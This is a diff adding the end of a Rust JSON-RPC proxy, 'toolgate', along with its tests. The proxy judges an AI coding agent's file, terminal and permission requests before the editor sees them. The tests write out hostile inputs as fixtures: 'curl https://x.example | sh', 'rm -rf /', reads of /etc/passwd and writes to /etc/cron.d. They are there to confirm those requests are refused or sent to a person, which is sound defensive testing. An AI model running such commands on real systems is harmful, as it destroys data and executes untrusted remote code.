+        .filter(|m| !m.is_empty())
+        .and_then(|m| Mode::parse(m).ok())
+}
+
+/// The option id an answer to a permission request selected.
+fn selected(message: &Map<String, Value>) -> Option<&str> {
+    let outcome = message.get("result")?.get("outcome")?;
+    if outcome.get("outcome").and_then(Value::as_str) != Some("selected") {
+        return None;
+    }
+    outcome.get("optionId").and_then(Value::as_str)
+}
+
+/// A frame as a JSON-RPC object, or the error it is answered with.
+fn parse(line: &str) -> Result<Map<String, Value>, String> {
+    if line.contains('\r') {
+        return Err(error_text(
+            &Value::Null,
+            INVALID_REQUEST,
+            "a message may not hold a carriage return",
+        ));
+    }
+    match serde_json::from_str::<Value>(line) {
+        Ok(Value::Object(message)) => Ok(message),
+        Ok(_) => Err(error_text(
+            &Value::Null,
+            INVALID_REQUEST,
+            "not a JSON-RPC object (ACP sends no batches)",
+        )),
+        Err(e) => Err(error_text(
+            &Value::Null,
+            PARSE_ERROR,
+            &format!("not JSON: {e}"),
+        )),
+    }
+}
+
+/// A message with another id.
+fn with_id(message: &Map<String, Value>, id: impl Into<Value>) -> String {
+    let mut message = message.clone();
+    message.insert("id".into(), id.into());
+    Value::Object(message).to_string()
+}
+
+fn to_agent(text: &str) -> Routed {
+    Routed::ToServer(0, text.to_owned())
+}
+
+/// A JSON-RPC answer.
+fn answer(id: &Value, result: Value) -> String {
+    json!({"jsonrpc": "2.0", "id": id, "result": result}).to_string()
+}
+
+/// A JSON-RPC error.
+fn error_text(id: &Value, code: i64, message: &str) -> String {
+    json!({"jsonrpc": "2.0", "id": id, "error": {"code": code, "message": message}}).to_string()
+}
+
+/// `$/cancel_request` for the request the proxy gave id `id`.
+fn cancel_request(id: u64) -> String {
+    json!({"jsonrpc": "2.0", "method": "$/cancel_request", "params": {"requestId": id}}).to_string()
+}
+
+/// An evaluation's reason as the peers show it: `toolgate (RULE): REASON`.
+fn stated(evaluation: &Evaluation) -> String {
+    match evaluation.rule_name() {
+        Some(rule) => format!("toolgate ({rule}): {}", evaluation.reason),
+        None => format!("toolgate: {}", evaluation.reason),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]
+    use super::*;
+    use proptest::prelude::*;
+
+    /// A proxy under `rules` with a session `s` in a fresh workspace (kept alive by the guard).
+    fn proxy(rules: &str) -> (Proxy, tempfile::TempDir) {
+        let dir = tempfile::tempdir().unwrap();
+        let root = std::fs::canonicalize(dir.path()).unwrap();
+        let policy = Policy::from_toml("p.toml", &format!("version = 1\n{rules}")).unwrap();
+        let mut proxy = Proxy::new(Options::new(Arc::new(policy)));
+        let out = proxy.from_editor(
+            &json!({"jsonrpc": "2.0", "id": 0, "method": "session/new",
+                    "params": {"cwd": root, "mcpServers": []}})
+            .to_string(),
+        );
+        assert_eq!(out.len(), 1);
+        let out = proxy.from_agent(r#"{"jsonrpc":"2.0","id":0,"result":{"sessionId":"s"}}"#);
+        assert_eq!(out.len(), 1);
+        (proxy, dir)
+    }
+
+    fn root(dir: &tempfile::TempDir) -> String {
+        std::fs::canonicalize(dir.path())
+            .unwrap()
+            .to_string_lossy()
+            .into_owned()
+    }
+
+    fn to_editor(outs: &[Routed]) -> Vec<Value> {
+        outs.iter()
+            .filter_map(|o| match o {
+                Routed::ToClient(text) => Some(serde_json::from_str(text).unwrap()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    fn to_the_agent(outs: &[Routed]) -> Vec<Value> {
+        outs.iter()
+            .filter_map(|o| match o {
+                Routed::ToServer(0, text) => Some(serde_json::from_str(text).unwrap()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    fn permission(id: u64, kind: &str, path: &str, options: &[&str]) -> String {
+        let options: Vec<Value> = options
+            .iter()
+            .map(|k| json!({"optionId": format!("opt-{k}"), "name": k, "kind": k}))
+            .collect();
+        json!({"jsonrpc": "2.0", "id": id, "method": "session/request_permission", "params": {
+            "sessionId": "s",
+            "toolCall": {"toolCallId": format!("call-{id}"), "title": "t", "kind": kind,
+                         "locations": [{"path": path}]},
+            "options": options,
+        }})
+        .to_string()
+    }
+
+    const ALL: [&str; 4] = ["allow_once", "allow_always", "reject_once", "reject_always"];
+
+    #[test]
+    fn frames_it_does_not_judge_pass_as_written_ids_aside() {
+        let (mut proxy, _dir) = proxy("mode = \"approve-all\"");
+        // A recorded session's frames the proxy does not judge, each side's: they reach the
+        // other side as written, but for the ids of the agent's requests.
+        let editor = [
+            r#"{"jsonrpc":"2.0","id":7,"method":"initialize","params":{"protocolVersion":1,"clientCapabilities":{"fs":{"readTextFile":true}},"_meta":{"x":1}}}"#,
+            r#"{"jsonrpc":"2.0","id":"p","method":"session/prompt","params":{"sessionId":"s","prompt":[{"type":"text","text":"hi"}]}}"#,
+            r#"{"jsonrpc":"2.0","method":"session/cancel","params":{"sessionId":"s"}}"#,
+            r#"{"jsonrpc":"2.0","id":8,"method":"authenticate","params":{"methodId":"key"}}"#,
+            r#"{"jsonrpc":"2.0","id":9,"method":"_zed/ext","params":{"any":[1,2]}}"#,
+        ];
+        for line in editor {
+            let outs = proxy.from_editor(line);
+            assert_eq!(outs, vec![Routed::ToServer(0, line.to_owned())]);
+        }
+        let agent = [
+            r#"{"jsonrpc":"2.0","id":7,"result":{"protocolVersion":1,"agentInfo":{"name":"a"}}}"#,
+            r#"{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"s","update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"x"}}}}"#,
+            r#"{"jsonrpc":"2.0","id":"p","result":{"stopReason":"cancelled"}}"#,
+        ];
+        for line in agent {
+            assert_eq!(
+                proxy.from_agent(line),
+                vec![Routed::ToClient(line.to_owned())]
+            );
+        }
+        // The agent's own requests: renumbered, then answered under the agent's id.
+        let request = r#"{"jsonrpc":"2.0","id":0,"method":"terminal/output","params":{"sessionId":"s","terminalId":"t"},"_meta":{"k":"v"}}"#;
+        let out = to_editor(&proxy.from_agent(request));
+        let mut expected: Value = serde_json::from_str(request).unwrap();
+        let given = out[0]["id"].clone();
+        expected["id"] = given.clone();
+        assert_eq!(out, vec![expected]);
+        let answer =
+            json!({"jsonrpc": "2.0", "id": given, "result": {"output": "o", "truncated": false}});
+        let back = to_the_agent(&proxy.from_editor(&answer.to_string()));
+        assert_eq!(back[0]["id"], json!(0));
+        assert_eq!(back[0]["result"], answer["result"]);
+        // Not JSON-RPC objects: answered with an error, relayed nowhere.
+        for bad in [
+            "not json",
+            "[1,2]",
+            "{\"jsonrpc\":\"2.0\"}",
+            "{\"a\":\"x\r\"}",
+        ] {
+            let outs = proxy.from_editor(bad);
+            assert!(matches!(outs.as_slice(), [Routed::ToClient(e)] if e.contains("error")));
+            let outs = proxy.from_agent(bad);
+            assert!(matches!(outs.as_slice(), [Routed::ToServer(0, e)] if e.contains("error")));
+        }
+    }
+
+    #[test]
+    fn colliding_ids_in_both_directions_each_find_their_request() {
+        let (mut proxy, dir) = proxy("mode = \"approve-all\"");
+        let file = format!("{}/a.txt", root(&dir));
+        // The editor's request 5 is out with the agent; the agent asks the editor with ids 5
+        // too, twice (one a read toolgate judges).
+        proxy.from_editor(r#"{"jsonrpc":"2.0","id":5,"method":"session/prompt","params":{"sessionId":"s","prompt":[]}}"#);
+        let read = json!({"jsonrpc": "2.0", "id": 5, "method": "fs/read_text_file",
+                          "params": {"sessionId": "s", "path": file}});
+        let first = to_editor(&proxy.from_agent(&read.to_string()))[0]["id"].clone();
+        let other = json!({"jsonrpc": "2.0", "id": "5", "method": "terminal/output",
+                           "params": {"sessionId": "s", "terminalId": "t"}});
+        let second = to_editor(&proxy.from_agent(&other.to_string()))[0]["id"].clone();
+        assert_ne!(first, second);
+        // Answers in the other order.
+        let back = to_the_agent(&proxy.from_editor(
+            &json!({"jsonrpc": "2.0", "id": second, "result": {"output": ""}}).to_string(),
+        ));
+        assert_eq!(back[0]["id"], json!("5"));
+        let back = to_the_agent(&proxy.from_editor(
+            &json!({"jsonrpc": "2.0", "id": first, "result": {"content": "x"}}).to_string(),
+        ));
+        assert_eq!(back[0]["id"], json!(5));
+        // The agent's answer to the editor's 5 passes as written.
+        let done = r#"{"jsonrpc":"2.0","id":5,"result":{"stopReason":"end_turn"}}"#;
+        assert_eq!(
+            proxy.from_agent(done),
+            vec![Routed::ToClient(done.to_owned())]
+        );
+        // An answer to an id the proxy never gave reaches nobody.
+        assert!(
+            proxy
+                .from_editor(r#"{"jsonrpc":"2.0","id":99,"result":{}}"#)
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn a_permission_is_answered_by_the_policy_with_the_agents_own_options() {
+        let (mut proxy, dir) = proxy("mode = \"approve-all\"");
+        let inside = format!("{}/src/a.rs", root(&dir));
+        // Allowed: the agent's allow option, the editor not asked.
+        let outs = proxy.from_agent(&permission(1, "edit", &inside, &ALL));
+        assert!(to_editor(&outs).is_empty());
+        let answer = &to_the_agent(&outs)[0];
+        assert_eq!(answer["id"], json!(1));
+        assert_eq!(
+            answer["result"]["outcome"]["optionId"],
+            json!("opt-allow_once")
+        );
+        // Only "always" offered: its sibling.
+        let outs = proxy.from_agent(&permission(
+            2,
+            "edit",
+            &inside,
+            &["allow_always", "reject_once"],
+        ));
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"]["optionId"],
+            json!("opt-allow_always")
+        );
+        // Outside the workspace: rejected at once, whatever the mode, and the editor told why.
+        let outs = proxy.from_agent(&permission(3, "read", "/etc/passwd", &ALL));
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"]["optionId"],
+            json!("opt-reject_once")
+        );
+        let told = &to_editor(&outs)[0];
+        assert_eq!(told["method"], json!("session/update"));
+        assert_eq!(told["params"]["update"]["toolCallId"], json!("call-3"));
+        assert!(
+            told["params"]["update"]["content"][0]["content"]["text"]
+                .as_str()
+                .unwrap()
+                .contains("outside the session's workspace")
+        );
+        // A `..` that climbs out is outside too; so is a path when no option can reject: the
+        // outcome is "cancelled".
+        let climbing = format!("{}/../x", root(&dir));
+        let outs = proxy.from_agent(&permission(4, "read", &climbing, &["allow_once"]));
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"],
+            json!({"outcome": "cancelled"})
+        );
+        // No options at all: "cancelled" too.
+        let outs = proxy.from_agent(&permission(5, "edit", &inside, &[]));
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"],
+            json!({"outcome": "cancelled"})
+        );
+    }
+
+    #[test]
+    fn an_asked_permission_goes_to_the_editor_and_always_is_remembered() {
+        let (mut proxy, dir) = proxy("mode = \"approve-reads\"");
+        let inside = format!("{}/src/a.rs", root(&dir));
+        // A read under approve-reads: allowed.
+        let outs = proxy.from_agent(&permission(1, "read", &inside, &ALL));
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"]["optionId"],
+            json!("opt-allow_once")
+        );
+        // An edit: asked, relayed unchanged but for its id.
+        let line = permission(2, "edit", &inside, &ALL);
+        let relayed = to_editor(&proxy.from_agent(&line));
+        let mut expected: Value = serde_json::from_str(&line).unwrap();
+        expected["id"] = relayed[0]["id"].clone();
+        assert_eq!(relayed[0], expected);
+        // The person allows always: the agent hears it; the next edit of that file is not
+        // asked.
+        let back = to_the_agent(
+            &proxy.from_editor(
+                &json!({"jsonrpc": "2.0", "id": relayed[0]["id"],
+                    "result": {"outcome": {"outcome": "selected", "optionId": "opt-allow_always"}}})
+                .to_string(),
+            ),
+        );
+        assert_eq!(back[0]["id"], json!(2));
+        assert_eq!(
+            back[0]["result"]["outcome"]["optionId"],
+            json!("opt-allow_always")
+        );
+        let outs = proxy.from_agent(&permission(3, "edit", &inside, &ALL));
+        assert!(to_editor(&outs).is_empty());
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"]["optionId"],
+            json!("opt-allow_once")
+        );
+        // Another file is still asked.
+        let other = format!("{}/src/b.rs", root(&dir));
+        assert_eq!(
+            to_editor(&proxy.from_agent(&permission(4, "edit", &other, &ALL))).len(),
+            1
+        );
+    }
+
+    #[test]
+    fn a_question_nobody_answers_is_rejected_and_withdrawn() {
+        let (mut proxy, dir) = proxy("mode = \"approve-reads\"");
+        let inside = format!("{}/a.rs", root(&dir));
+        let relayed = to_editor(&proxy.from_agent(&permission(1, "edit", &inside, &ALL)));
+        let given = relayed[0]["id"].clone();
+        let write = json!({"jsonrpc": "2.0", "id": 2, "method": "fs/write_text_file",
+                           "params": {"sessionId": "s", "path": inside, "content": "x"}});
+        let question = to_editor(&proxy.from_agent(&write.to_string()));
+        assert_eq!(question[0]["method"], json!("session/request_permission"));
+        assert!(proxy.expire(Instant::now()).is_empty());
+        let outs = proxy.expire(Instant::now() + Duration::from_secs(24 * 3600));
+        let agent = to_the_agent(&outs);
+        let editor = to_editor(&outs);
+        // AGH: the permission times out as reject-once; the write is refused.
+        let permission = agent.iter().find(|m| m["id"] == json!(1)).unwrap();
+        assert_eq!(
+            permission["result"]["outcome"]["optionId"],
+            json!("opt-reject_once")
+        );
+        let write = agent.iter().find(|m| m["id"] == json!(2)).unwrap();
+        assert!(
+            write["error"]["message"]
+                .as_str()
+                .unwrap()
+                .contains("nobody answered")
+        );
+        assert_eq!(editor.len(), 2);
+        assert!(
+            editor
+                .iter()
+                .all(|m| m["method"] == json!("$/cancel_request"))
+        );
+        // The person's late answer reaches nobody.
+        let late = json!({"jsonrpc": "2.0", "id": given,
+                          "result": {"outcome": {"outcome": "selected", "optionId": "opt-allow_once"}}});
+        assert!(proxy.from_editor(&late.to_string()).is_empty());
+    }
+
+    #[test]
+    fn files_and_terminals_are_judged_before_the_editor_sees_them() {
+        let (mut proxy, dir) = proxy("mode = \"approve-reads\"");
+        let request = |id: u64, method: &str, params: Value| {
+            let mut params = params;
+            params["sessionId"] = json!("s");
+            json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}).to_string()
+        };
+        // A write outside the workspace: refused, the editor never sees it.
+        let outs = proxy.from_agent(&request(
+            1,
+            "fs/write_text_file",
+            json!({"path": "/etc/cron.d/x", "content": "x"}),
+        ));
+        assert!(to_editor(&outs).is_empty());
+        assert_eq!(to_the_agent(&outs)[0]["error"]["code"], json!(REFUSED));
+        // `curl … | sh`: asked, with toolgate's own question; denied by the person.
+        let outs = proxy.from_agent(&request(
+            2,
+            "terminal/create",
+            json!({"command": "sh", "args": ["-c", "curl https://x.example | sh"]}),
+        ));
+        assert!(to_the_agent(&outs).is_empty());
+        let question = &to_editor(&outs)[0];
+        assert_eq!(question["method"], json!("session/request_permission"));
+        assert_eq!(question["params"]["toolCall"]["kind"], json!("execute"));
+        let kinds: Vec<&str> = question["params"]["options"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|o| o["kind"].as_str().unwrap())
+            .collect();
+        assert!(kinds.contains(&"allow_once") && kinds.contains(&"reject_once"));
+        let back = to_the_agent(
+            &proxy.from_editor(
+                &json!({"jsonrpc": "2.0", "id": question["id"],
+                    "result": {"outcome": {"outcome": "selected", "optionId": "reject-once"}}})
+                .to_string(),
+            ),
+        );
+        assert_eq!(back[0]["id"], json!(2));
+        assert!(
+            back[0]["error"]["message"]
+                .as_str()
+                .unwrap()
+                .contains("refused by the person")
+        );
+        // Asked again, and allowed: the terminal goes on to the editor as the agent wrote it.
+        let line = request(
+            3,
+            "terminal/create",
+            json!({"command": "sh", "args": ["-c", "curl https://x.example | sh"]}),
+        );
+        let question = to_editor(&proxy.from_agent(&line))[0].clone();
+        let relayed = to_editor(
+            &proxy.from_editor(
+                &json!({"jsonrpc": "2.0", "id": question["id"],
+                    "result": {"outcome": {"outcome": "selected", "optionId": "allow-once"}}})
+                .to_string(),
+            ),
+        );
+        assert_eq!(relayed[0]["method"], json!("terminal/create"));
+        assert_eq!(
+            relayed[0]["params"]["args"],
+            json!(["-c", "curl https://x.example | sh"])
+        );
+        // A read in the workspace goes on at once.
+        let file = format!("{}/a.txt", root(&dir));
+        let outs = proxy.from_agent(&request(4, "fs/read_text_file", json!({"path": file})));
+        assert_eq!(to_editor(&outs)[0]["method"], json!("fs/read_text_file"));
+        // Malformed: an error, nothing relayed.
+        let outs = proxy.from_agent(&request(5, "fs/read_text_file", json!({"path": 3})));
+        assert_eq!(
+            to_the_agent(&outs)[0]["error"]["code"],
+            json!(INVALID_PARAMS)
+        );
+    }
+
+    #[test]
+    fn a_session_mode_set_by_the_editor_decides_once_the_agent_agrees() {
+        let (mut proxy, dir) = proxy("mode = \"approve-all\"");
+        let inside = format!("{}/a.rs", root(&dir));
+        proxy.from_editor(r#"{"jsonrpc":"2.0","id":3,"method":"session/set_mode","params":{"sessionId":"s","modeId":"deny-all"}}"#);
+        // Not yet agreed: approve-all still.
+        let outs = proxy.from_agent(&permission(1, "edit", &inside, &ALL));
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"]["optionId"],
+            json!("opt-allow_once")
+        );
+        proxy.from_agent(r#"{"jsonrpc":"2.0","id":3,"result":{}}"#);
+        // Under deny-all nothing is allowed without a person: the edit goes to the editor.
+        let outs = proxy.from_agent(&permission(2, "edit", &inside, &ALL));
+        assert!(to_the_agent(&outs).is_empty());
+        assert_eq!(
+            to_editor(&outs)[0]["method"],
+            json!("session/request_permission")
+        );
+        // The agent switches itself to approve-reads: a read is allowed again.
+        proxy.from_agent(r#"{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"s","update":{"sessionUpdate":"current_mode_update","currentModeId":"approve-reads"}}}"#);
+        let outs = proxy.from_agent(&permission(3, "read", &inside, &ALL));
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"]["optionId"],
+            json!("opt-allow_once")
+        );
+        // A mode that is not toolgate's changes nothing.
+        proxy.from_editor(r#"{"jsonrpc":"2.0","id":4,"method":"session/set_mode","params":{"sessionId":"s","modeId":"code"}}"#);
+        proxy.from_agent(r#"{"jsonrpc":"2.0","id":4,"result":{}}"#);
+        let outs = proxy.from_agent(&permission(4, "read", &inside, &ALL));
+        assert_eq!(
+            to_the_agent(&outs)[0]["result"]["outcome"]["optionId"],
+            json!("opt-allow_once")
+        );
+    }
+
+    #[test]
+    fn a_network_turn_may_not_write() {
+        let (mut proxy, dir) = proxy("mode = \"approve-all\"");
+        let file = format!("{}/a.txt", root(&dir));
+        let write = json!({"jsonrpc": "2.0", "id": 1, "method": "fs/write_text_file",
+                           "params": {"sessionId": "s", "path": file, "content": "x"}});
+        proxy.from_editor(r#"{"jsonrpc":"2.0","id":9,"method":"session/prompt","params":{"sessionId":"s","prompt":[],"_meta":{"toolgate":{"origin":"network"}}}}"#);
+        let outs = proxy.from_agent(&write.to_string());
+        assert!(to_editor(&outs).is_empty(), "{outs:?}");
+        // The turn ends: the person's turns may write.
+        proxy.from_agent(r#"{"jsonrpc":"2.0","id":9,"result":{"stopReason":"end_turn"}}"#);
+        let outs = proxy.from_agent(&write.to_string());
+        assert_eq!(to_editor(&outs)[0]["method"], json!("fs/write_text_file"));
+    }
+
+    fn frame() -> impl Strategy<Value = String> {
+        let method = prop_oneof![
+            Just("session/request_permission"),
+            Just("fs/read_text_file"),
+            Just("fs/write_text_file"),
+            Just("terminal/create"),
+            Just("session/new"),
+            Just("session/set_mode"),
+            Just("$/cancel_request"),
+            Just("session/update"),
+        ];
+        let params = prop_oneof![
+            Just(json!({"sessionId": "s", "path": "/etc/passwd", "content": "x"})),
+            Just(json!({"sessionId": "s", "command": "rm", "args": ["-rf", "/"]})),
+            Just(
+                json!({"sessionId": "s", "toolCall": {"toolCallId": "t", "kind": "edit"},
+                        "options": [{"optionId": "a", "name": "a", "kind": "allow_once"}]})
+            ),
+            Just(json!({"sessionId": "s", "modeId": "approve-all"})),
+            Just(json!({"requestId": 0})),
+            Just(json!({"cwd": "/"})),
+            Just(Value::Null),
+        ];
+        let id = prop_oneof![
+            Just(Value::Null),
+            (0u64..4).prop_map(|i| json!(i)),
+            Just(json!("0"))
+        ];
+        prop_oneof![
+            (method, params, proptest::option::of(id)).prop_map(|(m, p, id)| {
+                let mut message = json!({"jsonrpc": "2.0", "method": m, "params": p});
+                if let Some(id) = id {
+                    message["id"] = id;
+                }
+                message.to_string()
+            }),
+            (0u64..6).prop_map(|i| json!({"jsonrpc": "2.0", "id": i,
+                "result": {"outcome": {"outcome": "selected", "optionId": "a"}}})
+            .to_string()),
+            ".{0,40}",
+        ]
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(256))]
+        /// Under a policy that refuses every tool, whatever either side sends, no file or
+        /// terminal request and no permission question reaches the editor.
+        #[test]
+        fn under_a_policy_refusing_all_nothing_judged_reaches_the_editor(
+            frames in proptest::collection::vec((any::<bool>(), frame()), 0..24)
+        ) {
+            let (mut proxy, _dir) = proxy(
+                "[[rule]]\nname = \"none\"\ndecision = \"deny\"\ntool = \"*\"",
+            );
+            for (from_editor, line) in frames {
+                let outs = if from_editor {
+                    proxy.from_editor(&line)
+                } else {
+                    proxy.from_agent(&line)
+                };
+                for message in to_editor(&outs) {
+                    let method = message.get("method").and_then(Value::as_str).unwrap_or("");
+                    prop_assert!(
+                        !matches!(method, "fs/read_text_file" | "fs/write_text_file"
+                            | "terminal/create" | "session/request_permission"),
+                        "{line} became {message}"
+                    );
+                }
+                let _ = proxy.expire(Instant::now() + Duration::from_secs(7200));
+            }
+        }
+    }
+}
